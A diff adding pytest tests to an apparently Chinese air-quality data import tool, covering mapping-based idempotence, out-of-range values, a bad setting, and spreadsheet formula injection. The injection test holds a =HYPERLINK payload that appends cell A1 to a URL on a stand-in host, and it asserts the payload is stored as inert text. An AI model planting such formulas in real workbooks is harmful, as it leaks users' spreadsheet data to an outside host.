@@ -357,3 +357,52 @@ def test_conflicts_name_hours_as_times(db: Path, tmp_path: Path) -> None:
     g.write_text(f.read_text(encoding="utf-8").replace(",10,", ",11,"), encoding="utf-8")
     code, out = run("air", "import", "--format", "cnemc", str(g))
     assert code == 2 and "1001A 2022-01-04 04:00" in out and "hour 4" not in out, out
+
+
+def test_a_mapped_file_is_the_same_import_only_with_the_same_mapping(db: Path, tmp_path: Path) -> None:
+    """Idempotence is by content: the same bytes read with another mapping are another import."""
+    data = tmp_path / "m.csv"
+    data.write_text("s,t,a,b\n1001A,2022-01-04 05:00,10,20\n", encoding="utf-8")
+    one, two = tmp_path / "one.yaml", tmp_path / "two.yaml"
+    one.write_text("station: s\ntime: t\ntime_format: '%Y-%m-%d %H:%M'\ncolumns: {pm25: a}\n", encoding="utf-8")
+    two.write_text("station: s\ntime: t\ntime_format: '%Y-%m-%d %H:%M'\ncolumns: {pm25: a, pm10: b}\n",
+                   encoding="utf-8")
+    assert run("air", "import", "--format", "csv", "--mapping", str(one), str(data))[0] == 0
+    code, out = run("air", "import", "--format", "csv", "--mapping", str(one), str(data))
+    assert code == 0 and "跳过" in out
+    code, out = run("air", "import", "--format", "csv", "--mapping", str(two), str(data))
+    assert code == 2 and "与已入库数值不同" in out   # pm10 now 20 where the first import stored none
+    con = connect(db, read_only=True)
+    assert con.execute("SELECT count(*), count(mapping_sha256) FROM air_import_batch").fetchone() == (1, 1)
+    con.close()
+
+
+def test_workbooks_keep_formula_like_text_as_text(tmp_path: Path) -> None:
+    """A name such as =HYPERLINK(…) from a file must not become a live formula in a workbook we write."""
+    from openpyxl import load_workbook
+
+    from ecozone.ingest.observations import ListSheet, write_workbook_template
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    out = write_workbook_template(
+        tmp_path / "t.xlsx", columns=["region", "value"], column_help={}, rows=[[evil, 1]],
+        example=[["=1+1", 2]], lists=[ListSheet("regions", ["code"], [["@SUM(A1)"], [evil]], "region")])
+    wb = load_workbook(out)
+    cells = [wb["observations"]["A2"], wb["示例 example"]["A3"], wb["regions"]["A3"]]
+    assert [c.value for c in cells] == [evil, "=1+1", evil]
+    assert all(c.data_type == "s" for c in cells)
+
+
+def test_a_value_beyond_float32_is_an_error_not_a_crash(db: Path, tmp_path: Path) -> None:
+    """Found by the fuzzing suite: 1e308 in a china_sites file aborted the read with DuckDB's
+    "out of range for FLOAT" (a crash log) instead of the import error "impossible value"."""
+    f = tmp_path / "china_sites_20220104.csv"
+    f.write_text("date,hour,type,1006A\r\n20220104,11,PM2.5,1e308\r\n20220104,11,PM10,38\r\n", encoding="utf-8")
+    code, out = run("air", "import", "--format", "china_sites", str(f))
+    assert code == 2 and "impossible value" in out and "1e308" in out, out
+
+
+def test_a_bad_earliest_hour_setting_is_a_clear_error(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("ECOZONE_EARLIEST_HOUR", "last tuesday")
+    code, out = run("air", "import", "--format", "cnemc", str(_hour_file(tmp_path, "2022-01-04T05:00:00")))
+    assert code == 2 and "ECOZONE_EARLIEST_HOUR" in out
